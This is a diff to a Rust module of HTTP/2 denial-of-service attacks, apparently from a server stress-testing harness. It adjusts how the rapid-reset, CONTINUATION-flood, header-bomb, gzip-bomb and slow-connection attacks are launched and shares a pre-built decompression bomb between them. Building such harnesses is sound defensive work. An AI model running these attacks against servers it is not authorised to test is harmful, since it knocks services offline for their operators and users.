@@ -2,6 +2,7 @@
 
 use std::fmt;
 use std::net::SocketAddr;
+use std::sync::Arc;
 
 use tokio_util::sync::CancellationToken;
 
@@ -84,13 +85,22 @@ impl Attack {
         }
     }
 
-    /// Attacks until it is told to stop.
-    pub(super) async fn run(self, address: SocketAddr, stop: CancellationToken) -> anyhow::Result<Tally> {
+    /// Attacks until it is told to stop, and tells when it is at full strength. `deflated` is what bombs are made of.
+    pub(super) async fn run(
+        self,
+        address: SocketAddr,
+        deflated: Arc<[u8]>,
+        ready: CancellationToken,
+        stop: CancellationToken,
+    ) -> anyhow::Result<Tally> {
+        if self != Self::IdleConnections {
+            ready.cancel();
+        }
         match self {
-            Self::IdleConnections => crowd::idle(address, stop).await,
+            Self::IdleConnections => crowd::idle(address, ready, stop).await,
             Self::SlowPreface => crowd::slow_preface(address, stop).await,
             Self::SlowHeaders => crowd::slow_headers(address, stop).await,
-            Self::RapidReset => flood::run(address, stop, Flood::each_stream(resets)).await,
+            Self::RapidReset => flood::run(address, stop, Flood::each_stream(100, resets)).await,
             Self::Continuations => {
                 let open = frame(kind::HEADERS, flag::NONE, 1, &call(RECORD, &[]));
                 flood::run(
@@ -123,12 +133,12 @@ impl Attack {
                 flood::run(address, stop, Flood::one_stream(open, repeated(&frame(kind::DATA, flag::NONE, 1, &[]))))
                     .await
             }
-            Self::HeaderBomb => flood::run(address, stop, Flood::each_stream(bombs)).await,
+            Self::HeaderBomb => flood::run(address, stop, Flood::each_stream(10, bombs)).await,
             Self::GzipBomb => {
-                let bomb = message(true, &deflated()?);
-                flood::run(address, stop, Flood::each_stream(move |stream| inflating(stream, &bomb))).await
+                let bomb = message(true, &deflated);
+                flood::run(address, stop, Flood::each_stream(2, move |stream| inflating(stream, &bomb))).await
             }
-            Self::UnfinishedMessages => flood::run(address, stop, Flood::each_stream(unfinished)).await,
+            Self::UnfinishedMessages => flood::run(address, stop, Flood::each_stream(1, unfinished)).await,
         }
     }
 }
@@ -164,7 +174,8 @@ fn inflating(stream: u32, bomb: &[u8]) -> Vec<u8> {
     bytes
 }
 
-fn deflated() -> anyhow::Result<Vec<u8>> {
+/// A small text that inflates to a large one.
+pub(super) fn deflated() -> anyhow::Result<Vec<u8>> {
     let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
     std::io::copy(&mut std::io::Read::take(std::io::repeat(0), INFLATED as u64), &mut encoder)?;
     Ok(encoder.finish()?)
